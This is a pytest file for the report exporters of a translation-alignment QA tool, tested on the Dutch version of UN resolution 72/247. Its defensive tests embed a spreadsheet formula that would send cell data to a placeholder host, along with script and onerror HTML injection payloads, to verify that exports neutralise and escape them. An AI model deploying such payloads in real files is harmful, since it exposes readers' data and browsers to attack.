"""`align qa` reports (JSON, CSV, XLSX, HTML, terminal) on the real findings of the Dutch 72/247.

The alignment is built by hand from the parsed corpus file: the 20 operative
paragraphs of each version paired by number, the parsed documents attached so
that the header check runs. The findings are those of the registered checks.
"""

from __future__ import annotations

import csv
import io
import json
import sys
from collections import Counter
from copy import deepcopy
from dataclasses import replace
from pathlib import Path

import lxml.etree
import lxml.html
import openpyxl
import pytest
from rich.console import Console

from align.errors import AlignWarning, InputError
from align.exporters.report import (
    FINDING_COLUMNS,
    exit_code,
    qa_output_format,
    render_findings_table,
    summary_line,
    write_report,
)
from align.exporters.tabular import columns
from align.exporters.xlsx import CELL_LIMIT
from align.model import Alignment, Finding, Section, Severity, Unit
from align.parse import read_documents
from align.qa.base import SEVERITY_RANK
from align.qa.registry import run_checks

CORPUS = Path(__file__).parent.parent / "corpus" / "a-res-72-247.en+nl-mt.md"
SIGNATURE = {"tool": "align 0.1.0", "model": "multilingual-e5-small", "thresholds": {"low": 0.55}, "pivot": "en"}
COMMISSARIS = "Office of the United Nations High Commissaris"
#: Text a spreadsheet would run as a formula, and markup a browser or rich would run.
HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"Open")'
SCRIPT = '<script>alert("x")</script> & co'


@pytest.fixture(scope="module")
def alignment() -> Alignment:
    en, nl = read_documents(str(CORPUS))
    dutch = {p.number: p for p in nl.operative}
    units = [
        Unit(
            id=p.id,
            section=p.section,
            number=p.number,
            paragraphs={"en": [p.id], "nl": [dutch[p.number].id]},
            texts={"en": p.full_text, "nl": dutch[p.number].full_text},
            link="1-1",
            similarity=None if p.number == "1" else 0.9,
            confidence=0.95,
        )
        for p in en.operative
    ]
    return Alignment(["en", "nl"], "en", units, {"en": en, "nl": nl}, dict(SIGNATURE))


@pytest.fixture(scope="module")
def findings(alignment: Alignment) -> list[Finding]:
    return run_checks(alignment)


def unit_of(alignment: Alignment, unit_id: str) -> Unit:
    return next(u for u in alignment.units if u.id == unit_id)


def made(unit: str, excerpt: str, *, message: str = "made by hand", severity: Severity = Severity.ERROR) -> Finding:
    """A finding the checks do not (yet) produce, on a real unit."""
    return Finding(f"hand-{unit}-{len(excerpt)}", "meaning", severity, unit, ["en", "nl"], message, excerpt, "")


def test_the_real_findings_cover_what_the_reports_must_show(findings: list[Finding]) -> None:
    """The premises of the tests below: errors, warnings and info, in the header and in units."""
    assert {f.severity for f in findings} == set(Severity)
    assert any(f.unit == "header" and f.excerpt == "Zeventig seconden sessie" for f in findings)
    assert any(f.unit == "op13" and f.excerpt == COMMISSARIS for f in findings)


# --------------------------------------------------------------------------- XLIFF

XLIFF = "{urn:oasis:names:tc:xliff:document:1.2}"


def xliff(findings: list[Finding], alignment: Alignment, tmp_path: Path) -> lxml.etree._Element:
    path = tmp_path / "report.xlf"
    write_report(findings, alignment, path, "xliff", SIGNATURE)
    return lxml.etree.parse(str(path)).getroot()


def test_xliff_has_every_unit_with_its_findings_as_notes(alignment: Alignment, findings: list[Finding], tmp_path: Path) -> None:
    """A bilingual file per version for a CAT tool: the pivot the source, the version the target,
    each finding a note on its unit, a flagged unit marked for review."""
    root = xliff(findings, alignment, tmp_path)
    assert root.tag == f"{XLIFF}xliff" and root.get("version") == "1.2"
    (file,) = root.findall(f"{XLIFF}file")
    assert (file.get("source-language"), file.get("target-language"), file.get("datatype")) == ("en", "nl", "plaintext")
    units = {u.get("id"): u for u in file.iter(f"{XLIFF}trans-unit")}
    assert list(units) == [u.id for u in alignment.units]
    op13 = units["op13"]
    assert op13.findtext(f"{XLIFF}source") == unit_of(alignment, "op13").texts["en"]
    assert op13.findtext(f"{XLIFF}target") == unit_of(alignment, "op13").texts["nl"]
    assert op13.find(f"{XLIFF}target").get("state") == "needs-review-translation"
    untranslated = next(f for f in findings if f.unit == "op13" and f.excerpt == COMMISSARIS and f.check == "untranslated")
    notes = [n for n in op13.findall(f"{XLIFF}note") if untranslated.id in n.text]
    priority = {Severity.ERROR: "1", Severity.WARNING: "2", Severity.INFO: "3"}[untranslated.severity]
    assert [(n.get("priority"), n.get("annotates")) for n in notes] == [(priority, "target")]
    assert COMMISSARIS in notes[0].text and untranslated.message in notes[0].text
    assert len(op13.findall(f"{XLIFF}note")) == sum(f.unit == "op13" for f in findings)
    quiet = [uid for uid, u in units.items() if not any(f.unit == uid and f.severity is not Severity.INFO for f in findings)]
    assert quiet and all(units[uid].find(f"{XLIFF}target").get("state") == "translated" for uid in quiet)
    header_notes = [n.text for n in file.find(f"{XLIFF}header").findall(f"{XLIFF}note")]
    assert header_notes[0].startswith("align signature: ") and json.loads(header_notes[0].split(": ", 1)[1]) == SIGNATURE
    assert any("Zeventig seconden sessie" in n for n in header_notes[1:])
    assert file.find(f"{XLIFF}header/{XLIFF}tool").get("tool-id") == "align"


def test_xliff_reads_back_in_translate_toolkit(alignment: Alignment, findings: list[Finding], tmp_path: Path) -> None:
    """What a localisation tool makes of it (translate-toolkit, which Weblate and Pootle read
    XLIFF with): every unit, its texts, its notes, and a flagged unit as needing review."""
    from translate.storage import factory, xliff

    path = tmp_path / "report.xlf"
    write_report(findings, alignment, path, "xliff", SIGNATURE)
    store = factory.getobject(str(path))
    assert (store.getsourcelanguage(), store.gettargetlanguage()) == ("en", "nl")
    read = {unit.getid().rsplit("\x04", 1)[-1]: unit for unit in store.units}
    assert list(read) == [u.id for u in alignment.units]
    op13 = read["op13"]
    assert (op13.source, op13.target) == (unit_of(alignment, "op13").texts["en"], unit_of(alignment, "op13").texts["nl"])
    review = xliff.xliffunit.statemap["needs-review-translation"]
    assert COMMISSARIS in op13.getnotes() and op13.get_state_n() == review
    flagged = {f.unit for f in findings if f.severity is not Severity.INFO}
    assert {uid for uid, unit in read.items() if unit.get_state_n() == review} == flagged & set(read)


def test_xliff_puts_a_header_finding_on_the_title_unit_that_holds_it(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    """`Zeventig seconden sessie` is a finding on the header as a whole; in a CAT tool it must stand on
    the segment that says it, and mark that segment for review."""
    titled = deepcopy(alignment)
    titled.units.insert(0, Unit("title.session", Section.TITLE, None, {"en": ["title.session"], "nl": ["title.session"]},
                                {"en": "Seventy-second session", "nl": "Zeventig seconden sessie"}, "1-1", 0.9, 0.9))
    file = xliff(findings, titled, tmp_path).find(f"{XLIFF}file")
    session = next(u for u in file.iter(f"{XLIFF}trans-unit") if u.get("id") == "title.session")
    assert session.find(f"{XLIFF}target").get("state") == "needs-review-translation"
    assert any("session reads 70 in nl" in n.text for n in session.findall(f"{XLIFF}note"))
    header_notes = [n.text for n in file.find(f"{XLIFF}header").findall(f"{XLIFF}note")]
    assert not any("Zeventig" in n for n in header_notes)


def test_xliff_marks_a_paragraph_the_version_lacks_and_drops_what_xml_forbids(alignment: Alignment, tmp_path: Path) -> None:
    lacking = deepcopy(alignment)
    unit_of(lacking, "op3").texts["nl"] = ""
    unit_of(lacking, "op4").texts["nl"] += "\x0c page"  # a form feed from PDF text
    file = xliff([], lacking, tmp_path).find(f"{XLIFF}file")
    units = {u.get("id"): u for u in file.iter(f"{XLIFF}trans-unit")}
    assert units["op3"].find(f"{XLIFF}target").get("state") == "needs-translation"
    assert units["op4"].findtext(f"{XLIFF}target").endswith(" page") and "\x0c" not in units["op4"].findtext(f"{XLIFF}target")


def test_xliff_of_three_versions_has_a_file_per_version_and_of_one_a_file_without_target(alignment: Alignment, tmp_path: Path) -> None:
    three = deepcopy(alignment)
    three.languages = ["en", "nl", "fr"]
    for unit in three.units:
        unit.texts["fr"] = "Prie le Secrétaire général"
    dutch_only = made("op2", "Dutch", severity=Severity.WARNING)
    dutch_only.languages = ["en", "nl"]
    files = xliff([dutch_only], three, tmp_path).findall(f"{XLIFF}file")
    assert [f.get("target-language") for f in files] == ["nl", "fr"]
    # one source file holds two versions (72/247): each <file> is named apart, as tools key units by it
    assert [f.get("original") for f in files] == [f"{CORPUS}#nl", f"{CORPUS}#fr"]
    assert [len(f.findall(f".//{XLIFF}note")) for f in files] == [2, 1]  # the signature in each; the finding in nl
    import align

    alone = align.one_version(alignment.documents["en"])
    english = made("op2", "English", severity=Severity.WARNING)
    english.languages = ["en"]
    (file,) = xliff([english], alone, tmp_path).findall(f"{XLIFF}file")
    assert file.get("target-language") is None and file.find(f".//{XLIFF}target") is None
    (note,) = file.find(f"{XLIFF}body").iter(f"{XLIFF}note")
    assert note.get("annotates") == "source"


# --------------------------------------------------------------------------- JSON


def test_json_report_has_the_signature_every_finding_and_a_summary(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    write_report(findings, alignment, tmp_path / "qa.json", "json", SIGNATURE)
    report = json.loads((tmp_path / "qa.json").read_text(encoding="utf-8"))
    assert list(report) == ["signature", "findings", "summary"]
    assert report["signature"] == SIGNATURE
    assert [list(f) for f in report["findings"]] == [
        ["id", "check", "severity", "unit", "languages", "message", "excerpt", "evidence", "excerpt_start"]
    ] * len(findings)
    assert [f["id"] for f in report["findings"]] == [f.id for f in findings]
    commissaris = next(f for f in report["findings"] if f["excerpt"] == COMMISSARIS)
    assert commissaris["unit"] == "op13" and commissaris["severity"] == "error" and commissaris["languages"] == ["en", "nl"]
    summary = report["summary"]
    assert summary["by_severity"] == {s: sum(f.severity.value == s for f in findings) for s in ("error", "warning", "info")}
    assert summary["by_check"] == dict(Counter(f.check for f in findings))
    assert summary["units"] == 20
    assert summary["units_flagged"] == len({f.unit for f in findings} - {"header", "document"})  # pseudo units


def test_json_report_goes_to_stdout_as_utf8_without_path(
    alignment: Alignment, findings: list[Finding], capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    write_report(findings, alignment, None, "JSON", SIGNATURE)
    report = json.loads(capsysbinary.readouterr().out.decode("utf-8"))
    assert [f["id"] for f in report["findings"]] == [f.id for f in findings]


# --------------------------------------------------------------------------- CSV


def test_csv_report_round_trips_with_bom_and_a_signature_sidecar(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    target = tmp_path / "qa.csv"
    write_report(findings, alignment, target, "csv", SIGNATURE)
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,severity,check,")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(FINDING_COLUMNS)
    assert rows[1:] == [
        [f.id, f.severity.value, f.check, f.unit, ";".join(f.languages), f.message, f.excerpt, f.evidence] for f in findings
    ]
    assert json.loads((tmp_path / "qa.csv.meta.json").read_text(encoding="utf-8")) == SIGNATURE
    assert sorted(p.name for p in tmp_path.iterdir()) == ["qa.csv", "qa.csv.meta.json"]


def test_csv_report_neutralises_formula_cells(alignment: Alignment, findings: list[Finding], tmp_path: Path) -> None:
    formula = made("op13", HYPERLINK, message="-based wording")
    write_report([*findings, formula], alignment, tmp_path / "qa.csv", "csv", SIGNATURE)
    rows = list(csv.reader(io.StringIO((tmp_path / "qa.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert rows[-1][FINDING_COLUMNS.index("excerpt")] == "'" + HYPERLINK
    assert rows[-1][FINDING_COLUMNS.index("message")] == "'-based wording"
    assert rows[-1][FINDING_COLUMNS.index("unit")] == "op13"


# --------------------------------------------------------------------------- XLSX


@pytest.fixture(scope="module")
def workbook(alignment: Alignment, findings: list[Finding], tmp_path_factory: pytest.TempPathFactory):
    target = tmp_path_factory.mktemp("xlsx") / "qa.xlsx"
    linked = replace(made("op13", HYPERLINK), evidence="https://undocs.org/A/RES/72/247")
    write_report([*findings, linked], alignment, target, "xlsx", SIGNATURE)
    return openpyxl.load_workbook(target)


def test_xlsx_findings_sheet_has_a_frozen_bold_header_filters_and_wrapped_text(workbook, findings: list[Finding]) -> None:
    assert workbook.sheetnames == ["findings", "signature", "units"]
    sheet = workbook["findings"]
    assert [c.value for c in sheet[1]] == list(FINDING_COLUMNS)
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:H{len(findings) + 2}"
    assert [sheet.cell(row, 1).value for row in range(2, len(findings) + 2)] == [f.id for f in findings]
    message = FINDING_COLUMNS.index("message") + 1
    assert sheet.cell(2, message).alignment.wrap_text
    assert sheet.column_dimensions["F"].width > sheet.column_dimensions["B"].width


def test_xlsx_has_no_formula_or_link_cells_and_neutralises_formula_text(workbook) -> None:
    """Text that opens like a formula is a string cell with Excel's quote prefix (so that it
    stays text when edited), and reads as it is: no `'` put into it."""
    cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" and c.hyperlink is None for c in cells)
    last = workbook["findings"][workbook["findings"].max_row]
    excerpt = last[FINDING_COLUMNS.index("excerpt")]
    assert excerpt.value == HYPERLINK and excerpt.data_type == "s" and excerpt.quotePrefix
    assert excerpt.alignment.wrap_text  # the quote prefix keeps the column's wrapping
    assert not last[FINDING_COLUMNS.index("message")].quotePrefix
    assert last[FINDING_COLUMNS.index("evidence")].value == "https://undocs.org/A/RES/72/247"  # text, not a link


def test_xlsx_signature_sheet_holds_the_signature(workbook) -> None:
    rows = list(workbook["signature"].iter_rows(values_only=True))
    assert rows[0] == ("key", "value")
    assert dict(rows[1:]) == {**SIGNATURE, "thresholds": '{"low": 0.55}'}


def test_xlsx_units_sheet_holds_the_aligned_units(workbook, alignment: Alignment) -> None:
    sheet = workbook["units"]
    assert [c.value for c in sheet[1]] == columns(alignment)
    assert sheet.max_row == len(alignment.units) + 1
    rows = {row[0]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
    op13 = unit_of(alignment, "op13")
    assert rows["op13"][:5] == ("op13", "operative", "13", op13.texts["en"], op13.texts["nl"])
    assert rows["op13"][6:8] == (0.9, 0.95)
    assert rows["op1"][6] is None  # unknown similarity stays empty, not 0


def test_xlsx_cuts_a_text_past_excels_cell_limit_with_a_note_and_a_warning(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    """A run-on paragraph (a file without blank lines) can pass Excel's 32,767 characters;
    xlsxwriter would cut it without a word."""
    run_on = deepcopy(alignment)
    unit = unit_of(run_on, "op13")
    unit.texts["en"] = " ".join([unit.texts["en"]] * (CELL_LIMIT // len(unit.texts["en"]) + 2))
    with pytest.warns(AlignWarning, match="cut to 32,767 characters; the whole text is in `align export`"):
        write_report(findings, run_on, tmp_path / "qa.xlsx", "xlsx", SIGNATURE)
    row = next(r for r in openpyxl.load_workbook(tmp_path / "qa.xlsx")["units"].iter_rows(values_only=True) if r[0] == "op13")
    cell = row[columns(run_on).index("en")]
    missing = len(unit.texts["en"]) - cell.index(" [… cut here")
    assert len(cell) <= CELL_LIMIT and unit.texts["en"].startswith(cell[: cell.index(" [… cut here")])
    assert cell.endswith(f"[… cut here: {missing} more characters; a cell holds 32,767; whole in `align export`]")


def test_xlsx_needs_a_file_on_a_terminal(alignment: Alignment, findings: list[Finding], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)  # a stdout that is not one takes the bytes (test_cli_pipeline)
    with pytest.raises(InputError, match="-o report.xlsx"):
        write_report(findings, alignment, None, "xlsx", SIGNATURE)


# --------------------------------------------------------------------------- HTML


def html_report(findings: list[Finding], alignment: Alignment, tmp_path: Path) -> tuple[str, lxml.html.HtmlElement]:
    target = tmp_path / "qa.html"
    write_report(findings, alignment, target, "html", SIGNATURE)
    text = target.read_text(encoding="utf-8")
    return text, lxml.html.document_fromstring(text)


def cell(page: lxml.html.HtmlElement, unit_id: str, language: str) -> lxml.html.HtmlElement:
    (found,) = page.xpath(f'//tr[@id="unit-{unit_id}"]/td[@lang="{language}"]')
    return found


def test_html_shows_every_unit_text_side_by_side(alignment: Alignment, findings: list[Finding], tmp_path: Path) -> None:
    _, page = html_report(findings, alignment, tmp_path)
    assert page.xpath("//thead/tr/th/text()") == ["unit", "en", "nl"]
    for unit in alignment.units:
        for language in ("en", "nl"):
            assert cell(page, unit.id, language).text_content() == unit.texts[language]
    ids = [row.get("id") for row in page.xpath('//table[@class="versions"]/tbody/tr[@id]')]
    assert ids == ["unit-header"] + [f"unit-{u.id}" for u in alignment.units]


def test_html_marks_each_excerpt_in_place_and_lists_each_finding(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    ecb = made("op15", "Bureau van de ECB")
    _, page = html_report([ecb, *findings], alignment, tmp_path)
    assert cell(page, "op15", "nl").xpath('mark[@class="sev-error"]/text()') == ["Bureau van de ECB"]
    assert COMMISSARIS in cell(page, "op13", "nl").xpath('mark[@class="sev-error"]/text()')
    assert "Zeventig seconden sessie" in cell(page, "header", "nl").xpath('mark[@class="sev-error"]/text()')
    # the page furniture a header finding quotes is shown in the header, marked in place
    assert {"A / RES / 72/247", "Distr. :"} <= set(cell(page, "header", "nl").xpath('mark[@class="sev-warning"]/text()'))
    # `is` opens op13 in Dutch and marks the opening word, not the `is` inside another word
    opening = cell(page, "op13", "nl").xpath('mark[@class="sev-info"]')[0]
    assert opening.text == "is" and opening.getprevious() is None and not (cell(page, "op13", "nl").text or "")
    # evidence is underlined in the English cell
    assert "Office of the United Nations High Commissioner for Human Rights" in cell(page, "op13", "en").xpath(
        'mark[contains(@class, "evidence")]/text()'
    )
    # under their units, or in the list of findings outside the aligned units (a cut in a preambular
    # paragraph, which this alignment of the operative part leaves out)
    listed = page.xpath('//tr[contains(@class, "findings")]//li/code/text()')
    outside = page.xpath('//h2[text()="Findings outside the aligned units"]/following-sibling::*[1]//li/code/text()')
    assert sorted(listed + outside) == sorted(f.id for f in [ecb, *findings])
    assert outside == [f.id for f in findings if f.unit == "document"] != []
    assert not page.xpath('//*[contains(text(), "not located")]')


def test_html_lists_errors_and_warnings_worst_first_linked_to_their_rows(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    """What most needs fixing was found only by scrolling the whole table."""
    _, page = html_report(findings, alignment, tmp_path)
    items = page.xpath('//ol[@class="worst-first"]/li')
    assert len(items) == len([f for f in findings if f.severity is not Severity.INFO]) > 0
    ranks = [SEVERITY_RANK[Severity(li.xpath('span[@class="badge"]/text()')[0])] for li in items]
    assert ranks == sorted(ranks)
    links = [href for li in items for href in li.xpath("a/@href")]
    assert links and all(page.xpath(f'//tr[@id="{href[1:]}"]') for href in links)


def test_html_marks_whole_words_and_each_repeat_of_an_excerpt(alignment: Alignment, tmp_path: Path) -> None:
    """`regionale` is marked as a word, not inside `subregionale`; the same excerpt twice marks two places."""
    regional = made("op8", "regionale", severity=Severity.WARNING)
    first = made("op13", "Verklaring")
    second = replace(first, id=first.id + "-2")
    _, page = html_report([first, second, regional], alignment, tmp_path)
    op8 = cell(page, "op8", "nl")
    (mark,) = op8.xpath("mark")
    assert op8.text == unit_of(alignment, "op8").texts["nl"][: unit_of(alignment, "op8").texts["nl"].index(" regionale") + 1]
    assert mark.text == "regionale"
    op13 = cell(page, "op13", "nl")
    assert [m.text for m in op13.xpath("mark")] == ["Verklaring", "Verklaring"]
    assert op13.xpath("mark")[0].tail.strip()  # two places, with text between
    assert op13.text_content() == unit_of(alignment, "op13").texts["nl"]


def test_html_marks_only_the_occurrence_a_finding_names(alignment: Alignment, tmp_path: Path) -> None:
    """op13 has `Verklaring` twice; a finding that says it means the second marks that one."""
    text = unit_of(alignment, "op13").texts["nl"]
    second = text.index("Verklaring", text.index("Verklaring") + 1)
    _, page = html_report([replace(made("op13", "Verklaring"), excerpt_start=second)], alignment, tmp_path)
    op13 = cell(page, "op13", "nl")
    (mark,) = op13.xpath("mark")
    assert mark.text == "Verklaring" and len(op13.text) == second


def test_html_lists_a_finding_it_cannot_locate_under_its_unit(alignment: Alignment, tmp_path: Path) -> None:
    lost = made("op4", "a span that is not in the text")
    _, page = html_report([lost], alignment, tmp_path)
    (item,) = page.xpath('//tr[contains(@class, "findings")]//li')
    assert item.getparent().getparent().getparent().getprevious().get("id") == "unit-op4"
    assert "not located" in item.text_content() and "a span that is not in the text" in item.text_content()
    assert not page.xpath("//mark")


def test_html_lists_findings_on_no_aligned_unit_after_the_versions(alignment: Alignment, tmp_path: Path) -> None:
    stray = made("op21", "Bureau van de ECB")
    _, page = html_report([stray], alignment, tmp_path)
    assert not page.xpath('//table[@class="versions"]//li')
    (heading,) = page.xpath("//h2[contains(text(), 'outside the aligned units')]")
    assert heading.getnext().xpath("li/code/text()") == [stray.id]


def test_html_escapes_all_text(alignment: Alignment, findings: list[Finding], tmp_path: Path) -> None:
    op1, op20 = unit_of(alignment, "op1"), unit_of(alignment, "op20")
    hostile = replace(op20, texts={**op20.texts, "nl": f"{SCRIPT} {op20.texts['nl']} {SCRIPT}"})
    clean = replace(op1, texts={**op1.texts, "en": f"{op1.texts['en']} {SCRIPT}"})  # a unit with no finding
    units = [{"op1": clean, "op20": hostile}.get(u.id, u) for u in alignment.units]
    injected = replace(alignment, units=units, signature={**SIGNATURE, "note": "</style><b>x</b>"})
    extra = made("op20", SCRIPT, message='<img src=x onerror="alert(1)">')
    text, page = html_report([extra, *findings], injected, tmp_path)
    assert "<script" not in text.lower() and "<img" not in text and "<b>x" not in text
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co" in text
    assert cell(page, "op20", "nl").text_content() == hostile.texts["nl"]
    assert cell(page, "op1", "en").text_content() == clean.texts["en"]
    assert cell(page, "op20", "nl").xpath('mark[@class="sev-error"]/text()') == [SCRIPT]
    assert not page.xpath("//script | //img | //style//b")


def test_html_is_self_contained(alignment: Alignment, findings: list[Finding], tmp_path: Path) -> None:
    text, page = html_report(findings, alignment, tmp_path)
    assert not page.xpath("//script | //link | //img | //iframe | //*[@src]")
    assert "http" not in text and "url(" not in text
    assert page.xpath("//meta/@charset") == ["utf-8"]


# --------------------------------------------------------------------------- terminal, summary, exit code


def test_terminal_table_groups_by_unit_worst_first_then_summarises(
    alignment: Alignment, findings: list[Finding]
) -> None:
    markup = made("op4", "[bold]Urges[/bold] States")
    console = Console(record=True, width=400, file=io.StringIO())
    render_findings_table([*findings, markup], alignment, console)
    lines = console.export_text().splitlines()
    starts = [line.split("│")[1].strip() for line in lines if line.startswith("│") and line.split("│")[1].strip()]
    # each unit once; units with an error first, in reading order (the header first), then warnings
    # (op12's) before information only (op2's), though op2 comes first in the text
    assert starts[:3] == ["header", "op4", "op13"]
    assert starts.index("op12") < starts.index("op2")
    assert len(starts) == len(set(starts)) == len({f.unit for f in findings} | {"op4"})
    assert any("[bold]Urges[/bold] States" in line for line in lines)  # shown as text, not read as markup
    assert any(COMMISSARIS in line for line in lines)
    # each finding's id is shown, with its whole excerpt (a long excerpt wraps inside its cell)
    rows = _table_rows(lines)
    assert all(any(f.id in row[-1] and " ".join(f.excerpt.split()) in row[-3] for row in rows) for f in findings)
    assert lines[-1] == summary_line([*findings, markup])


def test_terminal_table_orders_units_by_their_worst_finding(alignment: Alignment, findings: list[Finding]) -> None:
    console = Console(record=True, width=400, file=io.StringIO())
    render_findings_table(findings, alignment, console)
    starts = [line.split("│")[1].strip() for line in console.export_text().splitlines() if line.startswith("│")]
    starts = [s for s in starts if s]
    worst = {u: min(("error", "warning", "info").index(f.severity.value) for f in findings if f.unit == u) for u in starts}
    assert [worst[u] for u in starts] == sorted(worst[u] for u in starts)
    assert starts[:2] == ["header", "op13"]


def test_summary_line_counts_by_severity_and_check(findings: list[Finding]) -> None:
    severity = Counter(f.severity for f in findings)
    checks = Counter(f.check for f in findings)
    line = summary_line(findings)
    assert line.startswith(
        f"{len(findings)} findings: {severity[Severity.ERROR]} errors, {severity[Severity.WARNING]} warnings, "
        f"{severity[Severity.INFO]} info; by check: "
    )
    assert line.split("by check: ")[1].split(", ") == [f"{name} {n}" for name, n in sorted(checks.items(), key=lambda i: (-i[1], i[0]))]
    header = [f for f in findings if f.unit == "header"]
    assert summary_line(header) == "3 findings: 1 error, 2 warnings, 0 info; by check: header 1, numbers 1, typography 1"
    assert summary_line([]) == "No findings."


def test_exit_code_is_one_when_something_is_at_or_above_fail_on(findings: list[Finding]) -> None:
    errors = [f for f in findings if f.severity is Severity.ERROR]
    warnings = [f for f in findings if f.severity is Severity.WARNING]
    infos = [f for f in findings if f.severity is Severity.INFO]
    assert errors and warnings and infos
    assert exit_code(findings) == 1 and exit_code(errors, "error") == 1
    assert exit_code(warnings + infos, "error") == 0
    assert exit_code(warnings, "warning") == 1 and exit_code(infos, "warning") == 0
    assert exit_code(findings, "never") == 0
    assert exit_code([], "warning") == 0
    with pytest.raises(InputError, match="fail-on"):
        exit_code(findings, "errors")


# --------------------------------------------------------------------------- writing


def test_unknown_format_and_missing_folder_are_input_errors(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    with pytest.raises(InputError, match="unknown report format 'pdf'"):
        write_report(findings, alignment, tmp_path / "qa.pdf", "pdf", SIGNATURE)
    with pytest.raises(InputError, match="does not exist"):
        write_report(findings, alignment, tmp_path / "nowhere" / "qa.html", "html", SIGNATURE)


def test_a_report_replaces_the_previous_one_and_leaves_no_temporary_file(
    alignment: Alignment, findings: list[Finding], tmp_path: Path
) -> None:
    target = tmp_path / "qa.xlsx"
    target.write_bytes(b"old")
    write_report(findings, alignment, target, "xlsx", SIGNATURE)
    assert target.read_bytes().startswith(b"PK")  # a zip: the new workbook
    assert [p.name for p in tmp_path.iterdir()] == ["qa.xlsx"]


def _table_rows(lines: list[str]) -> list[list[str]]:
    """The cells of each table row, a wrapped cell's lines joined: a row starts at a line whose id cell is set."""
    rows: list[list[str]] = []
    current: list[list[str]] = []
    for line in lines:
        if not line.startswith("│"):
            continue
        cells = [c.strip() for c in line.strip("│").split("│")]
        if current and cells[-1]:
            rows.append([" ".join(" ".join(parts).split()) for parts in zip(*current)])
            current = []
        current.append(cells)
    if current:
        rows.append([" ".join(" ".join(parts).split()) for parts in zip(*current)])
    return rows


def test_terminal_table_at_80_columns_shows_every_field_of_every_finding(
    alignment: Alignment, findings: list[Finding]
) -> None:
    """Piped output and small terminals get 80 columns: fields stack inside one cell instead
    of squeezing the message and the excerpt to nothing."""
    console = Console(record=True, width=80, file=io.StringIO())
    render_findings_table(findings, alignment, console)
    lines = console.export_text().splitlines()
    assert all(len(line) <= 80 for line in lines)
    flat = " ".join(line.strip("│ ").replace("│", " ") for line in lines)
    flat = " ".join(flat.split())
    for finding in findings:
        assert finding.id in flat
        assert " ".join(finding.message.split()) in flat or " ".join(finding.message.split()[:4]) in flat
    assert flat.count("excerpt:") == sum(bool(f.excerpt) for f in findings)


@pytest.mark.parametrize(
    ("fmt", "path", "written"),
    [
        (None, None, "text"),
        (None, "report.html", "html"),
        (None, "REPORT.HTM", "html"),
        (None, "report.xlsx", "xlsx"),
        (None, "report.txt", "text"),
        (None, "report.out", "json"),
        (None, "-", "json"),
        ("csv", "report.csv", "csv"),
        ("json", "report.out", "json"),
        ("text", None, "text"),
    ],
)
def test_qa_writes_the_format_its_option_or_its_output_names(fmt: str | None, path: str | None, written: str) -> None:
    """`-o report.html` wrote JSON into it; the suffix names the format, as `align export` reads it."""
    assert qa_output_format(fmt, path) == written


@pytest.mark.parametrize(("fmt", "path", "message"), [("csv", "report.xlsx", "names a .xlsx file"), ("pdf", None, "text, json")])
def test_qa_refuses_a_format_its_output_contradicts(fmt: str, path: str | None, message: str) -> None:
    with pytest.raises(InputError, match=message):
        qa_output_format(fmt, path)
